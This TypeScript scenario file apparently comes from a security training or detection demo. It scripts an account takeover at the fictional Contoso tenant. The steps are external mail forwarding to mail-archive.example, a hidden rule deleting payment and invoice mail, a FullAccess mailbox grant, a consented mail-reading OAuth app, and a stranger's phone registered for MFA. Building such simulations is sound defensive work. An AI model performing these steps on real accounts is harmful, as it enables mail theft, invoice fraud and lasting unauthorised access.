/** A whole account in wrong hands: mail goes out, answers are hidden, another account, an app and a phone stay as back doors. */
import { runAs } from "./run-as.ts"
import { consentAs, registerAppAs } from "./run-in-directory.ts"
import { INTRUDER_ADDRESS, type Story } from "./story.ts"

const lidia = { tenant: "contoso", alias: "lidia.holm", ip: INTRUDER_ADDRESS } as const
const LIDIA = "lidia.holm@contoso.example"

export const accountTakenOver: Story = {
  id: "12-account-taken-over",
  title: "An account taken over",
  description:
    "Somebody has Lidia's password at Contoso and settles in. Press “Secure account” on a card of hers.",
  steps: [
    {
      says: "Lidia's mail goes outside",
      act: (cloud) =>
        runAs(cloud, lidia, "Set-Mailbox", {
          Identity: LIDIA,
          ForwardingSmtpAddress: "smtp:lidia@mail-archive.example",
          DeliverToMailboxAndForward: true,
        }),
    },
    {
      says: "A rule deletes what the bank writes",
      act: (cloud) =>
        runAs(cloud, lidia, "New-InboxRule", {
          Name: "..",
          SubjectContainsWords: ["payment", "invoice"],
          DeleteMessage: true,
        }),
    },
    {
      says: "Another account may read Lidia's mailbox from now on",
      act: (cloud) =>
        runAs(cloud, lidia, "Add-MailboxPermission", {
          Identity: LIDIA,
          User: "isaiah.langer@contoso.example",
          AccessRights: ["FullAccess"],
        }),
    },
    {
      says: 'The app "Invoice Helper" may read her mail, whatever the password is',
      act: (cloud) => consentAs(cloud, lidia, "Invoice Helper", ["Mail.Read", "offline_access"]),
    },
    {
      says: "A stranger's phone answers when Microsoft asks for a second factor",
      act: (cloud) => registerAppAs(cloud, lidia, "SM-A156B"),
    },
  ],
}
